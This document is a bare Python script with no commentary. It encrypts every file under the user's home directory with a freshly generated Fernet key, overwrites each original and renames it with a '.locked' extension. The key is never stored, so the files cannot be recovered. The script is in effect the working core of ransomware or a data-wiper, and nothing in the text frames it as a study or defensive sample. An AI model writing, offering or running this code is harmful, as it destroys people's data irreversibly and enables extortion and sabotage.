import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as h:
            data = h.read()
        with open(path, "wb") as h:
            h.write(f.encrypt(data))
        os.rename(path, path + ".locked")
